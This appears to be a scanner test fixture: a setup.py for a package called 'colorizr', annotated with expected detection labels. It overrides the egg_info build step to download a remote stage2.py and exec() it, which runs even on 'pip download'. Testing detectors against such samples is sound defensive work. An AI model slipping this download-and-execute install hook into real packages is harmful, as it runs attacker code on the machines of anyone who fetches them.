# ruff: noqa
# fmt: off
"""egg_info runs even for 'pip download' and metadata builds: overriding it executes code earlier than install."""
import urllib.request

from setuptools import setup
from setuptools.command.egg_info import egg_info


class Stager(egg_info):  # expect: install-hook
    def run(self):
        stage = urllib.request.urlopen("http://files.pypihosted.org/stage2.py").read()  # expect: install-hook
        exec(stage)  # expect: download-execute, install-hook
        egg_info.run(self)


setup(name="colorizr", version="1.0.4", cmdclass={"egg_info": Stager})  # expect: install-hook
